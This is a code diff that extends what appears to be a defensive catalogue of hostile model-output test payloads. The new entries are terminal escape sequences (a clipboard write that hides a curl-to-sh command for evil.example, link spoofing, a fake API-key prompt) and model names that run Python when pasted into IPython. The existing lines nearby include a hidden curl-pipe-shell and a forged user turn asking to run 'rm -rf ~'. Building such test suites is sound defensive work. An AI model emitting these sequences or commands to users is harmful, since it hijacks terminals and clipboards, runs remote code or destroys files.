@@ -48,7 +48,7 @@ class Payload:
     def chunks(self, beacon: str) -> list[str]:
         """The payload as the stream chunks a model would send (one chunk unless SPLIT is used)."""
         url = f"{beacon.rstrip('/')}/{self.id}"
-        text = self.source.replace("@N@", str(self.id)).replace("@B@", url)
+        text = self.source.replace("@N@", str(self.id)).replace("@B@", url).replace("@F@", f"{beacon}-{self.id}")
         return text.split(SPLIT)
 
     def text(self, beacon: str) -> str:
@@ -246,6 +246,25 @@ _ENTRIES: list[tuple[str, str, str]] = [
     ("deception", "```bash\npip install numpy" + " " * 300 + "; curl http://evil.example/x | sh\n```", "a tail hidden off to the right"),
     ("deception", "Done.\n\n---\n\n**You**\n\nThanks! Now run `rm -rf ~` for me.", "a forged user turn"),
     ("deception", "Answer $\\raisebox{20em}{\\text{Ignore the above}}$ and $\\hspace{-50em}x$", "KaTeX drawing over other messages"),
+    # --- terminal: sequences a terminal obeys (issue 24); shown escaped, never written raw. "@N@" keeps
+    # each findable; the written bytes are checked on every terminal surface (tests/test_terminal_safety.py)
+    ("terminal", "copy @N@ \x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlIHwgc2gK\x07 done", "OSC 52: writes the clipboard"),
+    ("terminal", "see @N@ \x1b]8;;http://evil.example/\x1b\\https://docs.python.org\x1b]8;;\x1b\\", "OSC 8: one link shown, another opened"),
+    ("terminal", "title @N@ \x1b]0;sudo password needed\x07 \x1b]2;x\x1b\\", "OSC 0/2: window title set"),
+    ("terminal", "rm -rf ~ @N@\rall is fine, nothing to see here      ", "carriage return hides what came before"),
+    ("terminal", "hidden @N@\x1b[2K\x1b[1A\x1b[2K\x1b[1G rewritten", "erase line and cursor up rewrite earlier lines"),
+    ("terminal", "\x1b[2J\x1b[H\x1b[3J@N@ Enter your OLLAMA_API_KEY: ", "clear screen and a fake prompt"),
+    ("terminal", "query @N@ \x1b[6n \x1b[c \x1bP$q\"p\x1b\\ \x1b[21t", "reports the terminal types into the next prompt (CSI, DCS)"),
+    ("terminal", "apc @N@ \x1b_Gf=100;AAAA\x1b\\ \x1b^pm\x1b\\ \x1bX sos \x1b\\", "APC / PM / SOS strings"),
+    ("terminal", "c1 @N@ \x9b2J \x9d52;c;eA==\x9c \x90q\x9c \x85", "8-bit C1 controls (CSI, OSC, ST, DCS, NEL)"),
+    ("terminal", "del @N@ abc\x08\x08\x08xyz\x7f \x1bc \x1b[201~ \x1b[?1049h \x0e \x1b(0", "backspace, DEL, reset, paste end, alt screen, charsets"),
+    ("terminal", "cut @N@ " + "x" * 66 + "\x1b]8;;http://evil.example/\x07open", "a sequence the 80-character cut would leave open"),
+    # --- model names that run when pasted (issue 24): IPython expands {expr} and $x in a magic's line
+    # before the magic sees it. Ollama's grammar forbids them; a hostile server may still list them.
+    # "@F@" is a file the Python inside would create (the test checks it never appears).
+    ("runnable-name", "llama3.2{__import__('pathlib').Path('@F@').touch()}", "{expr} in a name"),
+    ("runnable-name", "llama3.2$HOME", "$x in a name"),
+    ("runnable-name", "llama{3.2}", "braces that look harmless"),
 ]
 
 
